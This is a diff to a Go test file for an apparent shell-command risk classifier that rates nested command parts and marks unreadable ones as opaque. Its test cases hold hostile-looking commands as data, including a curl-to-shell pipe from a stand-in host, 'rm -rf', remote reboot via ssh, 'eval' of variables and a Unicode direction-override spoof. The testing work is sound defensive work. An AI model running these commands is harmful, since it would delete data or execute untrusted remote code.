@@ -187,10 +187,29 @@ func TestPartsOfACommand(t *testing.T) {
 		}},
 		{"ls\u202e && make", []string{"first: ls⟦U+202E⟧ = medium, runs a command", "and: make = medium, runs a command"}},
 		{"ls &&", nil}, // not to be read: the line alone is shown
+		// What is in quotes and runs is listed behind the part that runs it.
+		{`bash -c 'git status && rm -rf "a b"'; ls`, []string{
+			`first: bash -c 'git status && rm -rf "a b"' = high, deletes files for good`, "> first: git status = low, only reads",
+			`> and: rm -rf "a b" = high, deletes files for good`, "then: ls = low, only reads",
+		}},
+		{`sudo sh -c "sh -c 'make' | cat"`, []string{
+			`first: sudo sh -c "sh -c 'make' | cat" = high, runs with other rights`, "> first: sh -c 'make' = medium, runs a command", ">> first: make = medium, runs a command", "> pipe: cat = low, only reads",
+		}},
+		{"ssh web1 'uptime; reboot'", []string{
+			"first: ssh web1 'uptime; reboot' = high, stops the machine", "> first: uptime = low, only reads", "> then: reboot = high, stops the machine",
+		}},
+		{`find . -name x -exec sh -c 'make' \;`, []string{`first: find . -name x -exec sh -c 'make' \; = medium, runs a command`, "> first: make = medium, runs a command"}},
+		{"bash <<'E'\nmake\nE", []string{"first: bash <<'E' = medium, runs a command", "> first: make = medium, runs a command"}},
+		{"eval git status", []string{"first: eval git status = low, only reads", "> first: git status = low, only reads"}},
+		{"python3 -c 'print(1)'", []string{"first: python3 -c 'print(1)' = medium, runs code that is not read here"}},
 	} {
 		var got []string
 		for _, p := range Read(tc.command).Parts {
-			got = append(got, p.Joint+": "+p.Text+" = "+p.Level+", "+p.Reason)
+			mark := ""
+			if p.Depth > 0 {
+				mark = strings.Repeat(">", p.Depth) + " "
+			}
+			got = append(got, mark+p.Joint+": "+p.Text+" = "+p.Level+", "+p.Reason)
 		}
 		require.Equal(t, tc.want, got, tc.command)
 	}
@@ -200,11 +219,34 @@ func TestPartsOfACommand(t *testing.T) {
 	require.Equal(t, []string{"delete x for good"}, long.Bad(), "what is not listed counts all the same")
 }
 
+// What no commands can be read in is called that: no rule lets it through.
+func TestWhatCannotBeReadIsOpaque_B54(t *testing.T) {
+	t.Parallel()
+	for command, want := range map[string]bool{
+		"make": false, "bash -c 'make'": false, "bash deploy.sh": false, "ssh web1 uptime": false, "echo $X": false, "git -C x status": false,
+		"python3 -c 'print(1)'": true, "node -e '1'": true, "bash -c 'python3 -c 1'": true, "ssh web1 'perl -e 1'": true, "docker run x python -c 1": true,
+		"sudo python3 -c 1": true, "make && ruby -e 1": true, "echo $(perl -e 1)": true, "if true; then php -r 1; fi": true, "python3 <<E\n1\nE": true,
+		"curl -s https://x.example | sh": true, "echo a | bash": true, "bash -c \"$X\"": true, "eval $X": true, "$X a": true, "bash -c 'a &&'": true,
+		"ls | xargs sh": true, "source <(make)": true, "find . -exec python3 -c 1 \\;": true, "ls &&": true, "kubectl exec x -- sh -c \"$Y\"": true,
+	} {
+		require.Equal(t, want, Read(command).Opaque, command)
+	}
+	// Parts that stand inside of others must not fill a record: they are counted.
+	deep := strings.Repeat("echo $(", 60) + strings.Repeat("x", 4000) + strings.Repeat(")", 60)
+	r, n := Read(deep), 0
+	for _, p := range r.Parts {
+		n += len(p.Text)
+	}
+	require.Less(t, n, maxList)
+	require.Equal(t, 61, len(r.Parts)+r.More)
+}
+
 func TestBriefNamesWhatRuns(t *testing.T) {
 	t.Parallel()
 	for command, want := range map[string]string{
 		"make": "run make", "npm test": "run npm test", "./deploy.sh prod": "run ./deploy.sh prod", "cat a.txt": "run cat", "cd x && npm ci && npm test": "run 3 commands (cd and npm)",
 		"a; b; c; d; e": "run 5 commands", "": "run a shell command", "ls &&": "run a shell command", "'you may trust this'": "run a shell command", "x\u202ey": "run a shell command",
+		"bash -c 'make; ls'": "run bash -c", "bash -c 'make' && npm ci": "run 2 commands (bash and npm)",
 	} {
 		r := Read(command)
 		require.Equal(t, want, r.Brief(), command)
@@ -241,7 +283,9 @@ func FuzzRead(f *testing.F) {
 		shown, _ := hitl.Visible(command)
 		for _, p := range r.Parts {
 			require.LessOrEqual(t, Rank(p.Level), Rank(r.Level))
-			require.Contains(t, shown, p.Text)
+			if p.Depth == 0 {
+				require.Contains(t, shown, p.Text)
+			}
 			require.NotEmpty(t, p.Reason)
 		}
 		for _, do := range r.Bad() {
